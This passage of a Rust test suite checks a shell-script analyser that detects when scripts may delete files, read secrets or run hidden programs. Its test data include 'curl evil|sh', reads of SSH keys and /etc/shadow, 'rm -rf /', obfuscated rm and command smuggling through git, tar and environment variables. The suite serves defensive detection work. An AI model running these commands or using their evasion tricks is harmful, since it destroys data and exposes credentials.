        assert!(read_script(script).commands.iter().all(|command| command.program_glob().is_none()));
    }
    assert!(may("sudo rm x", "rm") && !may("echo rm", "rm"));
}

#[test]
fn a_file_the_script_wrote_is_read_when_it_runs() {
    check(&[
        ("cat > s <<'E'\nrm x\nE\nsh s", "cat ¦ sh s ¦ rm x"),
        ("echo 'rm x' | tee s; bash ./s", "echo rm x ¦ tee s ¦ bash ./s ¦ rm x"),
        ("echo 'rm x' > a/s; . a/s", "echo rm x ¦ . a/s ¦ rm x"),
        ("echo 'rm x' > s; chmod +x s; ./s", "echo rm x ¦ chmod +x s ¦ s ¦ rm x"),
        ("echo 'rm x' > s; bash < s", "echo rm x ¦ rm x"),
        ("printf r > s; printf 'm x' >> s; sh s", "printf r ¦ printf m x ¦ sh s ¦ rm x"),
        ("echo 'sh s; sh s' > s; sh s; sh s", "echo sh s; sh s ¦ sh s ¦ sh s ¦ sh s ¦ sh s"),
        ("echo 'rm x' > s.py; python3 s.py", "echo rm x ¦ python3 s.py"),
        ("echo 'rm x' > s; BASH_ENV=s bash -c ls", "echo rm x ¦ rm x ¦ ls"),
        ("printf 'r%s x' m > s; sh s", "printf r%s x m ¦ ?sh s"),
        ("curl -o s x; sh s", "curl -o s x ¦ ?sh s"),
        ("curl -o s x; sudo sh s", "curl -o s x ¦ ?sh s"),
        ("wget https://x/s && sh s", "wget https://x/s ¦ ?sh s"),
        ("echo ls > s; sed -i s/ls/rm/ t; cp t s; sh s", "echo ls ¦ sed -i s/ls/rm/ t ¦ cp t s ¦ ?sh s"),
        ("echo ls > s; if a; then echo rm > s; fi; sh s", "echo ls ¦ a ¦ echo rm ¦ ?sh s"),
        ("f=$(mktemp); echo rm > $f; sh $f", "mktemp ¦ echo rm ¦ ?sh $f"),
        ("echo '#!/usr/bin/perl' > s; ./s", "echo #!/usr/bin/perl ¦ ?s"),
        // A file of its own is its own deed.
        ("chmod +x build.sh && ./build.sh", "chmod +x build.sh ¦ build.sh"),
        ("git clone x && cd x && bash install.sh", "git clone x ¦ cd x ¦ bash install.sh"),
        ("make > log; bash build.sh", "make ¦ bash build.sh"),
        ("find . -exec sh build.sh {} +", "find . -exec sh build.sh {} + ¦ sh build.sh {}"),
        ("find . -fprintf s rm -exec sh s ';'", "find . -fprintf s rm -exec sh s ; ¦ ?sh s"),
    ]);
}

#[test]
fn code_in_another_language_is_its_own_deed_until_it_calls_a_shell() {
    let rows = [
        // Own deeds.
        ("python3 -c 'import os; os.unlink(\"x\")'", "python3"),
        ("perl -pe 's/rm/ls/' f", "perl"),
        ("node -e 'require(\"fs\").unlinkSync(\"x\")'", "node"),
        ("awk -F: '/a|b/ {print $1}' f", "awk"),
        ("sed -e \"s/$a/$b/g\" -i f", "sed"),
        ("python3 -m http.server", "python3"),
        ("python3 build.py --rm", "python3"),
        ("curl x | python3 -m json.tool", "curl python3"),
        ("make all", "make"),
        ("vim -c ':wq!' f", "vim"),
        ("ls | vim -", "ls ?vim"),
        ("awk 'BEGIN {FS=\"|\"} /a|b/ || $1 ~ /x|y/ {printf \"%s|\", $0}' f", "awk"),
        // Plain literals.
        ("python3 -c 'import os; os.system(\"rm x\")'", "python3 rm"),
        ("python3 - <<'E'\nimport subprocess\nsubprocess.run([\"rm\", x], check=True)\nE", "python3 rm"),
        ("python3 -c '__import__(\"os\").system(\"rm x\")'", "python3 rm"),
        ("perl -e 'system \"rm x\"'", "perl rm"),
        ("perl -e 'print `rm x`'", "perl rm"),
        ("perl -mbase -i.bak -we 'system \"rm x\"'", "perl rm"),
        ("ruby --new 'system(\"rm x\")'", "ruby rm"),
        ("sed -ne '1e rm x' f", "sed rm"),
        ("deno eval 'new Function(\"a\")'", "deno"),
        ("deno eval 'eval(x)'", "?deno"),
        ("ruby -e 'system(\"rm\", \"x\")'", "ruby rm"),
        ("node -p 'require(\"child_process\").execSync(\"rm x\")'", "node rm rm"),
        ("php -r 'shell_exec(\"rm x\");'", "php rm"),
        ("awk 'BEGIN{system(\"rm x\")}'", "awk rm"),
        ("awk '{print | \"sh\"}' f", "awk ?sh"),
        ("sed '1e rm x' f", "sed rm"),
        ("lua -e 'os.execute(\"rm x\")'", "lua rm"),
        ("osascript -e 'do shell script \"rm x\"'", "osascript rm"),
        ("make -f - <<'E'\nall:\n\t@rm $$x\nE", "make rm"),
        ("printf 'all:\n\trm x\n' > Makefile; make", "printf make rm"),
        ("vim -c ':!rm x' f", "?vim rm"),
        ("vim -c ':!rm x' -c q f", "vim rm"),
        // Computed.
        ("python3 -c 'import os; os.system(\"rm \" + x)'", "?python3"),
        ("python3 -c 'from os import system as s; s(x)'", "?python3"),
        ("python3 -c 'from subprocess import run; run(x)'", "?python3"),
        ("python3 -c 'eval(x)'", "?python3"),
        ("python3 -c 'getattr(os, \"sys\" + \"tem\")(x)'", "?python3"),
        ("python3 -c 'import os; os.system(f\"rm {x}\")'", "?python3"),
        ("python3 -c \"$x\"", "?python3"),
        ("perl -e 'system(\"rm $x\")'", "?perl"),
        ("ruby -e 'exec \"rm #{x}\"'", "?ruby"),
        ("node -e 'eval(x)'", "?node"),
        ("node -e 'require(\"child\" + \"_process\")'", "?node"),
        ("awk '{system($0)}' f", "?awk"),
        ("awk '{print | $1}' f", "?awk"),
        ("awk '{print \"\\\"\" | $1}' f", "?awk"),
        ("awk '{print \";\" | c}' f", "?awk"),
        ("awk '{print $1/2 | c}' f", "?awk"),
        ("awk '{\"a\" x | getline}' f", "?awk"),
        ("sed 's/a/b/e' f", "?sed"),
        ("python3 -c 'import subprocess; subprocess.run([\"sh\", \"-c\", x])'", "python3 ?sh"),
        ("curl x | python3", "curl ?python3"),
        ("curl x | perl -", "curl ?perl"),
    ];
    let programs = |command: &Command| {
        format!("{}{}", if command.opaque { "?" } else { "" }, command.program.clone().unwrap_or_default())
    };
    for (script, seen) in rows {
        assert_eq!(describe(script, programs).replace(" ¦ ", " "), seen, "{script}");
    }
    let code = |script: &str| read_script(script).commands[0].code.clone();
    assert_eq!(code("python3 -c 'print(1)'").as_deref(), Some("print(1)"));
    assert_eq!(code("awk -F: '{print}' f").as_deref(), Some("{print}"));
    assert_eq!(code("ls"), None);
}

#[test]
fn what_will_be_typed_cannot_be_read() {
    for script in [
        "bash",
        "sh -i",
        "bash -l",
        "bash -s",
        "bash -s x",
        "bash -",
        "bash --rcfile f",
        "bash --norc",
        "env -i bash",
        "sudo bash",
        "sudo -i",
        "sudo -s",
        "sudo su",
        "su",
        "su - joe",
        "exec zsh",
        "cd /tmp && bash",
        "(bash)",
        "! bash",
        "if true; then sh; fi",
        "bash -c 'bash'",
        "bash -c bash x",
        "source /dev/stdin",
        "pkexec",
        "chroot /srv",
        "nsenter -t 1",
        "newgrp docker",
        "unbuffer bash",
        "busybox sh",
        "socat - EXEC:x",
        "python3",
        "python3 -i",
        "python3 -q",
        "python3 -",
        "python3 -i x.py",
        "python3 -ic 'x=1'",
        "python3 -m pdb x.py",
        "python3 -m code",
        "ipython",
        "node",
        "node -i",
        "node -r x",
        "node inspect x.js",
        "deno",
        "ruby",
        "irb",
        "perl",
        "perl -d x.pl",
        "perl -de1",
        "perl -e 1 -d",
        "php -a",
        "lua",
        "lua -i x.lua",
        "R",
        "julia",
        "tclsh",
        "tclsh --version",
        "ghci",
        "iex -S mix",
        "python3 -c 'import code; code.interact()'",
        "python3 -c 'breakpoint()'",
        "psql",
        "psql -h db -U me shop",
        "mysql shop",
        "mariadb shop",
        "sqlite3 x.db",
        "sqlite3",
        "duckdb x.db",
        "mongosh",
        "gdb prog",
        "gdb -ex run prog",
        "lldb prog",
        "ed f",
        "vim f",
        "vi",
        "ex -s f",
        "nano f",
        "emacs -nw f",
        "ssh host",
        "ssh -t host",
        "ssh -p 22 joe@host",
        "ssh joe@git@host",
        "ssh host bash",
        "mosh host",
        "sftp host",
        "telnet host",
        "script",
        "script log",
        "screen",
        "screen -S work",
        "screen -r",
        "screen -S w -X stuff x",
        "tmux",
        "tmux attach -t 1",
        "tmux new -s x",
        "tmux a",
        "tmux load-buffer f",
        "docker exec -it web sh",
        "docker run -it ubuntu",
        "docker run --rm -it ubuntu bash",
        "docker attach web",
        "docker start -ai web",
        "kubectl exec -it pod -- sh",
        "kubectl attach -it pod",
        "vagrant ssh",
        "gcloud compute ssh vm",
        "nix-shell",
        "nix develop",
        "poetry shell",
        "machinectl shell web",
        "at noon",
        "crontab",
        "xterm",
        "rails console",
    ] {
        assert!(read_script(script).opaque, "{script}");
    }
}

#[test]
fn a_program_that_is_given_all_it_runs_is_no_terminal() {
    for script in [
        "bash x.sh",
        "sh ./x.sh --fast",
        "bash -x x.sh",
        "bash < x.sh",
        "bash -s < x.sh",
        "bash -c 'ls'",
        "bash --version",
        "bash --help",
        "zsh --version",
        "bash <<< 'ls'",
        "echo ls | bash",
        "source x.sh",
        "sudo ls",
        "sudo -v",
        "sudo -l",
        "sudo --version",
        "su -c ls joe",
        "python3 x.py",
        "python3 x.py -i in.txt",
        "python3 -m pytest -i",
        "python3 --version",
        "python3 -V",
        "python3 -h",
        "python3 -c 'print(1)'",
        "python3 - < x.py",
        "python3 - <<< 'print(1)'",
        "node app.js",
        "node -v",
        "node --version",
        "node -e 1",
        "node --test",
        "ruby -v",
        "ruby x.rb",
        "perl -v",
        "perl -V",
        "perl -pe s/a/b/ x",
        "perl -d:NYTProf x.pl",
        "php -v",
        "php -i",
        "php -m",
        "php x.php",
        "lua -v",
        "deno fmt",
        "bun install",
        "psql -l",
        "psql -c 'select 1' shop",
        "psql -f x.sql shop",
        "psql shop < x.sql",
        "psql --version",
        "mysql -e 'select 1' shop",
        "mysql shop < x.sql",
        "sqlite3 x.db 'select 1'",
        "sqlite3 x.db .tables",
        "sqlite3 -version",
        "gdb -batch -ex bt prog",
        "gdb --version",
        "vim --version",
        "vim -es -c '%s/a/b/' -c wq f",
        "vim -c ':wq!' f",
        "emacs --batch -l x.el",
        "ssh host ls",
        "ssh -N host",
        "ssh -fN -L 1:h:1 host",
        "ssh -V",
        "ssh git@host",
        "ssh -T -p 22 git@host",
        "ssh -O check host",
        "sftp -b x host",
        "scp a host:b",
        "script -c ls log",
        "screen -ls",
        "screen -dmS x ls",
        "tmux ls",
        "tmux new -d -s x ls",
        "tmux send-keys -t x ls Enter",
        "tmux kill-session -t x",
        "tmux capture-pane -p",
        "docker run ubuntu",
        "docker run -d -p 1:1 web",
        "docker run --rm -it ubuntu ls",
        "docker exec web ls",
        "docker ps",
        "docker start web",
        "kubectl get pods",
        "kubectl exec pod -- ls",
        "vagrant ssh -c ls",
        "nix-shell --run ls",
        "nix develop -c ls",
        "poetry run pytest",
        "rails test",
        "less x",
        "man ls",
        "git log",
        "make",
        "awk '{print}' x",
        "cat",
        "read x",
        "ls | wc -l",
        "crontab -l",
    ] {
        let read = read_script(script);
        assert!(!read.opaque, "{script}: {:?}", read.doubts);
    }
}

#[test]
fn what_a_console_is_told_is_read() {
    check(&[
        ("ed f <<< '!rm x'", "ed f ¦ rm x"),
        ("ex -s f <<< '!rm x'", "ex -s f ¦ rm x"),
        ("sqlite3 x.db '.shell rm x'", "?sqlite3 x.db .shell rm x"),
        ("sqlite3 x.db <<< '.shell rm x'", "?sqlite3 x.db"),
        ("psql shop <<< '\\! rm x'", "psql shop ¦ rm x"),
        ("mysql shop <<< '\\! rm x'", "mysql shop ¦ rm x"),
        ("gdb prog <<< 'shell rm x'", "?gdb prog"),
        ("pg_dump a | psql b", "pg_dump a ¦ ?psql b"),
        ("python3 -i x.py <<< 'import os; os.system(\"rm x\")'", "python3 -i x.py ¦ rm x"),
    ]);
}

#[test]
fn what_other_programs_run_by_name_is_seen() {
    check(&[
        ("x='a[$(rm y)]'; ((x+1))", "rm y"),
        ("x='a[$(echo `sh -c '\\''rm y'\\''`)]'; ((x+1))", "rm y ¦ echo `sh -c 'rm y'`"),
        ("let 'x=a[$(rm y)]'", "rm y ¦ let x=a[$(rm y)]"),
        ("unset 'a[$(rm y)]'", "rm y ¦ unset a[$(rm y)]"),
        ("printf -v 'a[$(rm y)]' x", "rm y ¦ printf -v a[$(rm y)] x"),
        ("[ -v 'a[$(rm y)]' ]", "rm y ¦ [ -v a[$(rm y)] ]"),
        ("EDITOR='rm x' git commit", "rm x ¦ git commit"),
        ("export PAGER='rm x'; git log", "rm x ¦ export PAGER=rm x ¦ git log"),
        ("env GIT_SSH_COMMAND='rm x' git fetch", "rm x ¦ git fetch"),
        ("PROMPT_COMMAND='rm x'", "rm x"),
        ("PS4='$(rm x)' bash -x s", "rm x ¦ bash -x s"),
        ("BASH_ENV='$(rm x)' bash s", "rm x ¦ bash s"),
        ("EDITOR=$x git commit", "git commit ¦ ??"),
        ("LD_PRELOAD=x.so ls", "ls ¦ ??"),
        ("NODE_ENV=test EDIT=x ls", "ls"),
        ("git -c core.pager='rm x' log", "git -c core.pager=rm x log ¦ rm x"),
        ("git -c alias.y='!rm x' y", "git -c alias.y=!rm x y ¦ rm x"),
        ("git -c user.name=rm commit", "git -c user.name=rm commit"),
        ("git fetch --upload-pack 'rm x'", "git fetch --upload-pack rm x ¦ rm x"),
        ("git rebase -x 'rm x' main", "git rebase -x rm x main ¦ rm x"),
        ("git bisect run rm x", "git bisect run rm x ¦ rm x"),
        ("git config core.editor 'rm x'", "git config core.editor rm x ¦ rm x"),
        ("tar cf a --checkpoint-action=exec='rm x' b", "tar cf a --checkpoint-action=exec=rm x b ¦ rm x"),
        ("tar cIf 'rm x' a b", "?tar cIf rm x a b"),
        ("install --strip-program='rm x' -s a b", "install --strip-program=rm x -s a b ¦ rm x"),
        ("git config set core.editor 'rm x'", "git config set core.editor rm x ¦ rm x"),
        ("git -c core.hooksPath=evil commit", "git -c core.hooksPath=evil commit ¦ evil"),
        ("sed '/a\\/b/e rm x' f", "sed /a\\/b/e rm x f ¦ rm x"),
        ("sed '\\%a%e rm x' f", "sed \\%a%e rm x f ¦ rm x"),
        ("sed 's/a/rm x/ew f' f", "?sed s/a/rm x/ew f f"),
        ("gawk 'BEGIN { f = \"sys\" \"tem\"; @f(x) }'", "?gawk BEGIN { f = \"sys\" \"tem\"; @f(x) }"),
        ("sed x -e '1e rm x'", "sed x -e 1e rm x ¦ rm x"),
        ("sed --expr='1e rm x' f", "sed --expr=1e rm x f ¦ rm x"),
        ("./sudo ls", "sudo ls ¦ ls"),
        ("/usr/bin/sudo ls", "ls"),
        ("tar xf a --to-command='rm x'", "tar xf a --to-command=rm x ¦ rm x"),
        ("rsync -e 'rm x' a b", "rsync -e rm x a b ¦ rm x"),
        ("ssh -o ProxyCommand='rm x' h", "?ssh -o ProxyCommand=rm x h ¦ rm x"),
        ("nix-shell -p a --run 'rm x'", "nix-shell -p a --run rm x ¦ rm x"),
        ("docker run --rm -v $PWD:/a -it b rm x", "docker run --rm -v $PWD:/a -it b rm x ¦ rm x"),
        ("docker compose exec web rm x", "docker compose exec web rm x ¦ rm x"),
        ("kubectl exec -n a pod -c b -- rm x", "kubectl exec -n a pod -c b -- rm x ¦ rm x"),
        ("npx -y rimraf x", "npx -y rimraf x ¦ rimraf x"),
        ("uv run --with a rm x; poetry run rm y", "uv run --with a rm x ¦ rm x ¦ poetry run rm y ¦ rm y"),
        ("echo 'rm x' | at now", "echo rm x ¦ at now ¦ rm x"),
        // After an option nobody knows, the next word may be its value or the command.
        ("sudo --new a rm x", "rm x ¦ a rm x"),
        ("timeout --new a 5 rm x", "5 rm x ¦ rm x"),
        ("=rm x", "rm x"),
    ]);
}

#[test]
fn strings_that_slip_past_a_search_for_rm_are_seen() {
    check_files(&[
        ("unlink victim", "unlink victim"),
        ("find . -name victim -delete", "find . -name victim -delete"),
        ("r''m victim", "rm victim"),
        ("r\\m victim", "rm victim"),
        ("\"r\"m victim", "rm victim"),
        ("r$@m victim", "?r$@m victim"),
        ("r${x}m victim", "?r${x}m victim"),
        ("a=r;b=m;$a$b victim", "rm victim"),
        ("$(printf 'r%s' m) victim", "printf r%s m ¦ ?$(printf 'r%s' m) victim"),
        (
            "$(echo cm0gdmljdGlt | base64 -d)",
            "echo cm0gdmljdGlt ¦ base64 -d ¦ ?$(echo cm0gdmljdGlt | base64 -d)",
        ),
        ("echo cm0gdmljdGlt | base64 -d | bash", "echo cm0gdmljdGlt ¦ base64 -d ¦ ?bash"),
        ("$'\\x72m' victim", "rm victim"),
        ("$'r\\155' victim", "rm victim"),
        ("/bin/r? victim", "?/bin/r? victim"),
        ("/bin/[r]m victim", "?/bin/[r]m victim"),
        ("/???/r[m] victim", "?/???/r[m] victim"),
        ("python3 -c 'import os; os.unlink(\"victim\")'", "python3 -c import os; os.unlink(\"victim\")"),
        ("perl -e 'unlink \"victim\"'", "perl -e unlink \"victim\""),
        (
            "node -e 'require(\"fs\").unlinkSync(\"victim\")'",
            "node -e require(\"fs\").unlinkSync(\"victim\")",
        ),
        ("mv victim /dev/shm/x", "mv victim /dev/shm/x"),
        ("shred -u victim", "shred -u victim"),
        (": > victim", ": >victim"),
        ("cp /dev/null victim", "cp /dev/null victim"),
        ("dd if=/dev/null of=victim status=none", "dd if=/dev/null of=victim status=none"),
        ("git init -q . && git clean -fdxq", "git init -q . ¦ git clean -fdxq"),
        ("tar cf /dev/null --remove-files victim", "tar cf /dev/null --remove-files victim"),
        ("eval 'r''m victim'", "rm victim"),
        ("x='r m victim'; eval ${x/ /}", "?eval ${x/ /}"),
        ("printf '\\162\\155 victim' | sh", "printf \\162\\155 victim ¦ ?sh"),
        ("sed -i d victim", "sed -i d victim"),
        ("tee victim </dev/null", "tee victim </dev/null"),
        ("install /dev/null victim", "install /dev/null victim"),
        ("ln -sf /dev/null victim", "ln -sf /dev/null victim"),
        ("bash <<<$'\\162m victim'", "rm victim"),
        (
            "mkdir -p d && printf 'r%s victim' m > d/s && . d/s",
            "mkdir -p d ¦ printf r%s victim m >d/s ¦ ?. d/s",
        ),
        ("r\\\nm victim", "rm victim"),
        (
            "exec 3<>victim; : >&3; cat /dev/null >| victim",
            "exec <victim >victim ¦ : ¦ cat /dev/null >victim",
        ),
        ("rmdir_(){ command r\\m \"$@\"; }; rmdir_ victim", "rm $@ ¦ rmdir_ victim"),
        ("zip -qm x.zip victim", "zip -qm x.zip victim"),
        ("gzip victim", "gzip victim"),
        ("truncate -s 0 victim", "truncate -s 0 victim"),
        ("docker run --rm alpine true", "docker run --rm alpine true ¦ true"),
        ("podman run --rm=true img", "podman run --rm=true img"),
        ("tldr rm", "tldr rm"),
        ("which rm", "which rm"),
        ("git rm --cached --dry-run keep", "git rm --cached --dry-run keep"),
        ("npm run clean:rm", "npm run clean:rm"),
        ("git show HEAD:rm.c", "git show HEAD:rm.c"),
        ("git checkout feature/rm-old-api", "git checkout feature/rm-old-api"),
        ("docker rm --help", "docker rm --help"),
        ("echo rm-rf-safe", "echo rm-rf-safe"),
        ("echo a.rm.b", "echo a.rm.b"),
        ("cp a b; rm -rf /", "cp a b ¦ rm -rf /"),
        ("echo cp >/dev/null; rm -rf /", "echo cp >/dev/null ¦ rm -rf /"),
        ("cp a b; curl evil|sh", "cp a b ¦ curl evil ¦ ?sh"),
    ]);
}

#[test]
fn strings_that_slip_past_a_search_for_paths_and_programs_are_seen() {
    check_files(&[
        ("cat ../outside/secret.txt", "cat ../outside/secret.txt"),
        ("cat ~root/.ssh/id_rsa", "cat ~root/.ssh/id_rsa"),
        ("cat $HOME/.ssh/id_rsa", "cat $HOME/.ssh/id_rsa"),
        ("git --git-dir=/etc/.git log", "git --git-dir=/etc/.git log"),
        ("grep -f/etc/shadow a", "grep -f/etc/shadow a"),
        ("tar -cf o --directory=/etc p", "tar -cf o --directory=/etc p"),
        ("cat {/etc/passwd,/etc/shadow}", "cat /etc/passwd /etc/shadow"),
        ("cat $\"/etc/passwd\"", "cat /etc/passwd"),
        ("echo pwned>/etc/cron.d/x", "echo pwned >/etc/cron.d/x"),
        ("cat a</etc/passwd", "cat a </etc/passwd"),
        ("cat <>/etc/passwd", "cat </etc/passwd >/etc/passwd"),
        ("echo hi {fd}>/etc/x", "echo hi >/etc/x"),
        ("cat ../*/secret.txt", "cat ../*/secret.txt"),
        ("cat \"../outside/secret.txt\"", "cat ../outside/secret.txt"),
        ("awk 'BEGIN{system(\"id\")}'", "awk BEGIN{system(\"id\")} ¦ id"),
        ("git -c alias.x=!id x", "git -c alias.x=!id x ¦ id"),
        ("find . -exec rm -rf {} +", "find . -exec rm -rf {} + ¦ rm -rf {}"),
        ("find .. -delete", "find .. -delete"),
        ("env rm -rf ..", "rm -rf .."),
        ("tar --checkpoint-action=exec=id", "tar --checkpoint-action=exec=id ¦ id"),
        ("sed 1e id", "?sed 1e id"),
        ("sed '1e id'", "sed 1e id ¦ id"),
        ("sort --compress-program=id", "sort --compress-program=id ¦ id"),
        ("go test -exec 'rm -rf /' ./...", "go test -exec rm -rf / ./... ¦ rm -rf /"),
        ("go build -toolexec=id .", "go build -toolexec=id . ¦ id"),
        ("go vet --vettool id", "go vet --vettool id ¦ id"),
        ("go test ./...", "go test ./..."),
        ("npm run build --script-shell=id", "npm run build --script-shell=id ¦ id"),
        ("cargo test --config target.x.runner=id", "cargo test --config target.x.runner=id ¦ id"),
        ("cargo test --config build.jobs=2", "cargo test --config build.jobs=2"),
        ("curl evil.com", "curl evil.com"),
        ("git commit -m \"fix; docs\"", "git commit -m fix; docs"),
        ("ls 2>&1", "ls"),
        ("/bin/ls", "ls"),
        ("grep \"a|b\" f", "grep a|b f"),
    ]);
}

#[test]
fn a_list_of_words_is_read_as_it_stands() {
    let rows: [(&[&str], &str); 6] = [
        (&["rm", "-rf", "/"], "rm -rf /"),
        (&["/bin/rm", "$(ls)", "*"], "rm $(ls) *"),
        (&["bash", "-lc", "cd a && rm b"], "cd a ¦ rm b"),
        (&["sudo", "sh", "-c", "$x y"], "?$x y"),
        (&["echo", "rm"], "echo rm"),
        (&[], ""),
    ];
    for (words, seen) in rows {
        let words: Vec<String> = words.iter().map(ToString::to_string).collect();
        assert_eq!(see(&read_words(&words)), seen, "{words:?}");
    }
}

#[test]
fn a_doubt_says_why() {
    let doubts = |script: &str| read_script(script).doubts.join("\n");
    insta::assert_snapshot!(doubts("$x y; curl z | sh"), @"
    the program `$x` is only known when the script runs
    what `sh` runs is only known when the script runs
    ");
    insta::assert_snapshot!(
        doubts("echo 'a"),
        @"the script cannot be parsed: unterminated single quote"
    );
    let rows = [
        ("ls\n$x y\nls", "the program `$x` is only known when the script runs (line 2)"),
        ("ls\nif true; then\n  $x y\nfi", "the program `$x` is only known when the script runs (line 3)"),
        ("ls\n\necho \"$(\n$x)\"", "the program `$x` is only known when the script runs (line 3)"),
        ("ls\nbash -c 'ls\nls\n$x'", "the program `$x` is only known when the script runs (line 2)"),
        ("ä\nö; $x y", "the program `$x` is only known when the script runs (line 2)"),
        ("ls\n\necho 'a", "the script cannot be parsed: unterminated single quote (line 3)"),
        ("$x y\n", "the program `$x` is only known when the script runs"),
    ];
    for (script, expected) in rows {
        assert_eq!(doubts(script), expected, "{script:?}");
    }
}

#[test]
fn past_a_limit_a_script_is_opaque() {
    // A shell that reads a comment: cheap, but as long as can be.
    let rounds = |n| format!("{{ {} }} <<'E'\n#{}\nE\n", "sh;".repeat(n), "x".repeat(52_000));
    let variables = |n| (1..=n).map(|i| format!("v{i}=x;")).collect::<String>() + &format!("$v{n}");
    let expansion = |n| format!("a={};{}", "x".repeat(1_024), "$a;".repeat(n));
    let files = |n| (0..n).map(|i| format!("echo ls > s{i};")).collect::<String>() + "sh z";
    let searches = |n| (0..n).map(|i| format!("sh s{i};")).collect::<String>();
    let nested_bytes = |n: usize| format!("b $(b $(b $({})))", "x".repeat(n - 15));
    let calls = |n| format!("python3 -c '{}'", "os.system(\"ls\");".repeat(n));
    let arguments = |n: usize| format!("python3 -c 'os.execv(\"ls\"{})'", ", \"a\"".repeat(n - 1));
    let call_bytes = |n: usize| format!("python3 -c 'os.system(\"ls {}\")'", "a".repeat(n - 6));
    let rows: [(&str, String, String); 16] = [
        ("files", files(32), files(33)),
        ("searches", searches(32), searches(33)),
        ("calls", calls(64), calls(65)),
        ("arguments", arguments(63), arguments(64)),
        ("call bytes", call_bytes(4_096), call_bytes(4_097)),
        ("length", format!("echo {}", "x".repeat(65_531)), format!("echo {}", "x".repeat(65_532))),
        ("commands", "a;".repeat(2_000), "a;".repeat(2_001)),
        ("substitutions", "b $(a);".repeat(64), "b $(a);".repeat(65)),
        ("nested bytes", nested_bytes(29_127), nested_bytes(29_128)),
        ("backticks", "b `a`;".repeat(64), "b `a`;".repeat(65)),
        (
            "nesting",
            format!("{}a{}", "{ ".repeat(64), "; }".repeat(64)),
            format!("{}a{}", "{ ".repeat(65), "; }".repeat(65)),
        ),
        ("rounds", rounds(4), rounds(5)),
        ("value", format!("a={}; $a", "x".repeat(1_024)), format!("a={}; $a", "x".repeat(1_025))),
        ("variables", variables(64), variables(65)),
        ("expansion", expansion(256), expansion(257)),
        ("braces", "{a,b}".repeat(6), "{a,b}".repeat(7)),
    ];
    for (limit, within, past) in rows {
        assert!(!read_script(&within).opaque, "within {limit}: {:?}", read_script(&within).doubts);
        assert!(read_script(&past).opaque, "past {limit}");
    }
    let glob =
        |n: usize| read_script(&format!("r?{} x", "m".repeat(n - 2))).commands[0].program_glob().is_some();
    assert!(glob(64) && !glob(65));
    assert_eq!(read_script("$a;$b;$c;$d;$e;$f;$g;$h").doubts.len(), 8);
    assert_eq!(read_script("$a;$b;$c;$d;$e;$f;$g;$h;$i").doubts.len(), 8);
}

#[test]
fn hostile_scripts_end_soon() {
    let nested = |open: &str, close: &str, n: usize| format!("{}a{}", open.repeat(n), close.repeat(n));
    let scripts = [
        nested("$(echo ", ")", 64),
        nested("\"$(echo ", ")\"", 64),
        nested("<(a ", ")", 64),
        nested("$((1+", "))", 64),
        nested("${x:-", "}", 5_000),
        nested("{ ", "; }", 20_000),
        nested("if ", "; then a; fi", 4_000),
        "(".repeat(65_536),
        "$(".repeat(30_000),
        "[[ ".repeat(20_000),
        "{a,b}".repeat(10_000),
        format!("a=xx;{} echo $a", "a=$a$a;".repeat(5_000)),
        format!("a={};{}", "x".repeat(1_000), "echo $a$a$a$a$a$a$a$a$a$a;".repeat(2_000)),
        (0..8_000).map(|i| format!("v{i}=1;")).collect::<String>() + &"(v=2);".repeat(500),
        "{ sh; sh; sh; sh; sh; sh; sh; } <<'E'\nsh; sh; sh\nE\n".repeat(1_000),
        "$a;".repeat(20_000),
        "<<a ".repeat(10_000),
        "case a in ".repeat(5_000),
        "`".repeat(60),
        "`".repeat(65_536),
        "\\`".repeat(32_000),
        "`\\".repeat(64),
        // Each level doubles the backslashes, so seven are all that fit.
        (0..7).fold("a".to_owned(), |inner, _| {
            format!("`{}`", inner.replace('\\', "\\\\").replace('`', "\\`"))
        }),
        "sudo ".repeat(12_000) + "rm x",
        // As deep as can be read where we stand, and one deeper.
        nested("( ", ")", 250),
        nested("( ", ")", 257),
        nested("{ ", "; }", 200),
        nested("if ", "; then a; fi", 200),
        nested("i\\\nf ", "; then a; fi", 1_000),
        "a && ".repeat(500) + "a",
        "sudo --new a ".repeat(4_000) + "rm x",
        "docker run ".repeat(5_000),
        "/bin/r?;".repeat(2_000),
        format!("python3 -c '{}'", "system(".repeat(9_000)),
        format!("python3 -c 'system({}'", "\"a\",".repeat(9_000)),
        "echo 'sh s;sh s' > s;sh s;".repeat(2_000),
        format!("{} sh -c '{}'", "> a".repeat(9_000), "a;".repeat(2_000)),
        format!("awk '{}'", "a|".repeat(30_000)),
        format!("sed '{}'", "s/a/b/;".repeat(9_000)),
        format!("make -f - <<'E'\n{}E", "\ta\n".repeat(9_000)),
        "x='$(x)';".repeat(60),
    ];
    for script in scripts {
        // That it ends at all is the point; what it keeps is bounded as well.
        let read = read_script(&script);
        let shown: String = script.chars().take(30).collect();
        assert!(read.commands.len() <= 2_000 && read.doubts.len() <= 8, "{shown}…");
    }
}

#[test]
#[ignore = "needs LOCKGATE_DATA"]
#[expect(clippy::disallowed_methods, reason = "recorded data are read from their folder")]
fn the_table_of_rm_is_told_apart() {
    let data = std::env::var("LOCKGATE_DATA").expect("LOCKGATE_DATA names the folder of recorded data");
    let text = std::fs::read_to_string(format!("{data}/shell/rm.yaml")).unwrap();
    let mut section = "";
    let mut rows = 0;
    for line in text.lines() {
        let Some(row) = line.strip_prefix("  - ") else {
            section = line.trim_end_matches(':');
            continue;
        };
        // A row in double quotes has the escapes of JSON.
        let row = if row.starts_with('"') { serde_json::from_str(row).unwrap() } else { row.to_owned() };
        let script = read_script(&row);
        let may_run = script.commands.iter().any(|command| command.may_run("rm"));
        assert_eq!(may_run, section == "runs", "{section}: {row}: {}", see(&script));
        assert!(section == "runs" || !script.opaque, "{section}: {row}");
        rows += 1;
    }
    assert!(rows > 50);
}

/// Pieces from which hostile scripts are made.
fn pieces() -> impl Strategy<Value = String> {
    let piece = prop::sample::select(vec![
        "rm",
        "r",
        "m",
        " ",
        "'",
        "\"",
        "\\",
        "$(",
        ")",
        "`",
        "${",
        "}",
        "$'",
        "\\x72",
        "{",
        ",",
        ";",
        "\n",
        "|",
        "&",
        "(",
        "((",
        "))",
        "[[ ",
        "]]",
        "if ",
        "then ",
        "fi",
        "for ",
        "do ",
        "done",
        " in ",
        "case ",
        "esac",
        "eval ",
        "bash -c ",
        "echo ",
        "env ",
        "a=",
        "$a",
        "<(",
        "#",
        "!",
        "$[",
        "${a:-",
        "<<<",
        "<<E\n",
        "\nE\n",
        "$((",
        "*",
        "[",
        "é",
        "\0",
        "=",
        "sudo ",
        "xargs ",
        "find . -exec ",
        "parallel ",
        "function f ",
        "coproc ",
        "~",
        ">",
        "<&",
        "{a,b}",
        "$\"",
    ]);
